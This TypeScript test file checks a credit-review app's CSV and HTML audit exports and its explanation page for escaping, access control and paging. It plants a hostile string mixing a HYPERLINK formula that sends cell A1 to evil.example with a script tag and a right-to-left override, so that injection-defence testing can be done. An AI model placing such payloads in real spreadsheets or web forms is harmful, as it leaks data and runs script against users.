import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openCase } from '../../example/server/case-record.js';
import type { Database } from '../../example/server/database.js';
import type { Host } from '../../example/server/host.js';
import { sampleProposals } from '../../src/backends/sample-reviews.js';
import { type Policy, type Proposal, type Review, type Reviewer, sawOf } from '../../src/core.js';
import { calculates, readAs, readCsv } from '../audit/export.fixtures.js';
import { accept, openReusable, sightOf, signIn, startTestHost, type Visitor } from './host.fixtures.js';
import { asAdministrator } from './log.fixtures.js';

const EVIL = '=HYPERLINK("https://evil.example/?"&A1,"Open")<script>alert(1)</script>\u202e"; =1+1';

const policy: Policy = {
  id: 'credit',
  version: '1',
  reasonCodes: [{ code: 'income', label: 'Income and instalment do not fit' }],
  checks: [{ code: 'spoke', label: 'Spoke with the applicant' }],
};
const hostile: Proposal = {
  ...sampleProposals.loan,
  id: 'حالة "1"',
  subject: { title: EVIL, reference: EVIL, facts: [{ name: EVIL, value: EVIL }] },
  explanation: { summary: EVIL, factors: [{ id: 'x', name: EVIL, contribution: 0.31 }] },
};

describe('exports over HTTP', () => {
  let engine: Awaited<ReturnType<typeof openReusable>>;
  let host: Host;
  let database: Database;
  let people: Record<'amara' | 'priya' | 'jonas' | 'lena', Visitor>;
  const path = `/api/reviews/${encodeURIComponent(hostile.id)}`;

  beforeAll(async () => {
    engine = await openReusable();
    database = await engine.fresh();
    host = await startTestHost({ database });
    const visitors = await Promise.all(['amara', 'priya', 'jonas', 'lena'].map((name) => signIn(host.url, name)));
    people = Object.fromEntries(['amara', 'priya', 'jonas', 'lena'].map((name, at) => [name, visitors[at]])) as never;
    await host.store.open([hostile, { ...sampleProposals.refund, id: 'open' }], () => policy);
    const { amara } = people;
    let review = await amara.get<Review>(path);
    // More than one page of history.
    const send = async (command: Parameters<typeof accept>[2]) => {
      const answer = await amara.request(`${path}/commands`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'idempotency-key': crypto.randomUUID() },
        body: JSON.stringify({
          command,
          expectedVersion: review.version,
          saw: sawOf(review.proposal),
          ...(review.claim && { fence: review.claim.fence }),
        }),
      });
      const body = await answer.json();
      if (body.outcome !== 'accepted') throw new Error(JSON.stringify(body).slice(0, 300));
      review = body.review;
    };
    for (let count = 0; count < 30; count++) {
      await send({ type: 'claim' });
      await send({ type: 'release' });
    }
    await send({ type: 'claim' });
    await send({ type: 'override', value: 'approve', reason: { codes: ['income'], text: EVIL, checks: ['spoke'] } });
  });
  afterAll(async () => {
    await host?.stop();
    await engine?.close();
  });

  it('gives an auditor the whole record as a table that calculates nothing', async () => {
    const answer = await people.lena.request(`${path}/export.csv`);
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(answer.headers.get('cache-control')).toBe('no-store');
    const disposition = answer.headers.get('content-disposition') ?? '';
    expect(disposition).toMatch(
      /^attachment; filename="record-HYPERLINK-[\w-]+\.csv"; filename\*=UTF-8''record-[\w%.-]+$/,
    );
    const bytes = new Uint8Array(await answer.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes);
    const rows = readCsv(text);
    expect(rows).toHaveLength(1 + 63);
    expect(rows.flat().filter(calculates)).toEqual([]);
    for (const separator of [';', '\t', '|']) expect(readAs(separator, text).filter(calculates)).toEqual([]);
  });

  it('has place and digest of every entry in both, as the log has them', async () => {
    const lines = await database.query<{ seq: number; place: number; hash: string }>(
      'select seq, place::int as place, hash from audit_lines where review_id = $1 order by seq',
      [hostile.id],
    );
    const [head = [], ...rows] = readCsv(await (await people.lena.request(`${path}/export.csv`)).text());
    const column = (name: string) => rows.map((row) => row[head.indexOf(name)]);
    expect(column('seq')).toEqual(lines.map(({ seq }) => String(seq)));
    expect(column('position')).toEqual(lines.map(({ place }) => String(place)));
    expect(column('hash')).toEqual(lines.map(({ hash }) => hash));
    const html = await (await people.lena.request(`${path}/export.html`)).text();
    expect(lines.filter(({ hash }) => !html.includes(hash))).toEqual([]);
  });

  it('reads a long record piece by piece, as it was when it was asked for', async () => {
    const reader: Reviewer = { id: 'lena', name: 'Lena Vogt', roles: ['auditor'] };
    let queries = 0;
    const counting: Database = {
      ...database,
      query: (...given) => {
        queries += 1;
        return database.query(...given);
      },
    };
    const id = 'long';
    await host.store.open([{ ...sampleProposals.refund, id }], () => policy);
    let review = await people.amara.get<Review>(`/api/reviews/${id}`);
    for (let count = 0; count < 105; count++) {
      review = await accept(people.amara, review, { type: 'claim' });
      review = await accept(people.amara, review, { type: 'release' });
    }
    const record = await openCase(counting, id, await sightOf(database, reader));
    const seqs: number[] = [];
    for await (const { seq } of record?.entries ?? []) {
      if (seq === 1) {
        expect(queries).toBe(2);
        review = await accept(people.amara, review, { type: 'claim' });
      }
      seqs.push(seq);
    }
    expect(seqs).toEqual(Array.from({ length: 211 }, (_, at) => at + 1));
    expect(queries).toBe(3);
    expect(await openCase(database, 'nowhere', await sightOf(database, reader))).toBeUndefined();
  });

  it('gives a supervisor the document, in their language, with nothing in it that runs', async () => {
    const answer = await people.priya.request(`${path}/export.html?lang=de`);
    expect(answer.headers.get('content-type')).toBe('text/html; charset=utf-8');
    const html = await answer.text();
    expect(html).toContain('<html lang="de" dir="ltr">');
    expect(html).toContain('Ende des Dokuments: 63 Einträge.');
    expect(html).toContain('Priya Nair');
    expect(html).not.toMatch(/<script|\u202e/);
    expect(html.match(/<tr><th scope="row">/g)).toHaveLength(63);
    const refused = await people.priya.request(`${path}/export.html?lang=%22%3E`);
    expect([refused.status, await refused.json()]).toMatchObject([400, { error: { code: 'query-invalid' } }]);
  });

  it('gives the explanation also to a reviewer, with nobody’s name and nobody’s words in it', async () => {
    for (const who of ['lena', 'priya', 'amara'] as const) {
      const answer = await people[who].request(`${path}/explanation`);
      expect(answer.status).toBe(200);
      const html = await answer.text();
      expect(html).toContain('The result: Approve');
      expect(html).toContain('an underwriter');
      expect(html).toContain('Your income and the instalment did not fit the suggestion');
      expect(html).not.toMatch(/Amara|Osei|amara|0\.31|0\.66|66|Spoke|<script/);
      expect(html).not.toContain('Income and instalment do not fit');
    }
    const open = await people.amara.request('/api/reviews/open/explanation?lang=ar');
    expect(await open.text()).toContain('لم يُبَت في حالتك بعد.');
  });

  it('has none of a case that was a check, and does not say so', async () => {
    // As a host that slips in checks marks them; here afterwards, which takes whoever owns the database.
    await asAdministrator(database, (tx) =>
      tx.query(
        `update audit_lines set line = jsonb_set(line::jsonb, '{exposure,seeded}', 'true')::text
         where review_id = $1 and line::jsonb->>'type' = 'overridden'`,
        [hostile.id],
      ),
    );
    const answer = await people.amara.request(`${path}/explanation`);
    expect(answer.status).toBe(409);
    expect(await answer.json()).toEqual({
      error: { code: 'explanation-refused', message: 'There is no explanation of this case.' },
    });
    expect(await (await people.lena.request(`${path}/export.html`)).text()).toContain('Seeded check');
  });

  it('refuses whoever may not, and says nothing of what is not there', async () => {
    for (const [who, what] of [
      ['amara', 'export.csv'],
      ['amara', 'export.html'],
      ['jonas', 'export.csv'],
      ['jonas', 'explanation'],
    ] as const) {
      const answer = await people[who].request(`${path}/${what}`);
      expect([answer.status, await answer.json()], `${who} ${what}`).toMatchObject([
        403,
        { error: { code: 'role-missing' } },
      ]);
    }
    expect((await fetch(`${host.url}${path}/export.csv`)).status).toBe(401);
    for (const id of ['nowhere', '%00']) {
      const answer = await people.lena.request(`/api/reviews/${id}/export.csv`);
      expect([answer.status, await answer.json()]).toMatchObject([404, { error: { code: 'review-unknown' } }]);
    }
  });
});
